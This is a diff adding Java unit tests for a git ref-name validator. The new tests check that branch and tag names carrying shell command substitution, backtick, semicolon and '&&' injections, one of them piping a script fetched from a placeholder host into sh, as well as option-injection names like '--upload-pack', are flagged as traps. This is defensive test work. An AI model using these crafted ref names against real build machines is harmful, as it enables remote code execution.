@@ -53,6 +53,39 @@ class RefNamesTest {
     assertThat(RefNames.fault(ref, WRITABLE)).isEmpty();
   }
 
+  /** Ours: build machines write names of branches into command lines, and git takes them all. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "refs/heads/agent/$(curl${IFS}x.example|sh)",
+        "refs/heads/agent/`id`",
+        "refs/heads/agent/a;id",
+        "refs/heads/agent/a\"&&id",
+        "refs/heads/agent/a>b",
+        "refs/heads/-x",
+        "refs/tags/--upload-pack",
+        "refs/heads/HEAD",
+        "refs/heads/refs/heads/main",
+        "refs/heads/0123456789012345678901234567890123456789"
+      })
+  void git05_makesNoNamesThatAProgramTakesForSomethingElse(String ref) {
+    assertThat(RefNames.fault(ref, WRITABLE)).isEmpty();
+    assertThat(RefNames.trap(ref)).isPresent();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "refs/heads/fix/#12-don't-crash",
+        "refs/heads/dependabot/npm_and_yarn/@types/node-20.1",
+        "refs/heads/feature/a(b)+c=d,e!",
+        "refs/heads/agent/x-HEAD",
+        "refs/tags/v1.0-rc.1"
+      })
+  void makesTheOthers(String ref) {
+    assertThat(RefNames.fault(ref, WRITABLE).or(() -> RefNames.trap(ref))).isEmpty();
+  }
+
   @Test
   void git33_knowsFourRequestsAndNoOthers() {
     assertThat(GitRequest.read("GET", "/git/payments/info/refs?service=git-upload-pack"))
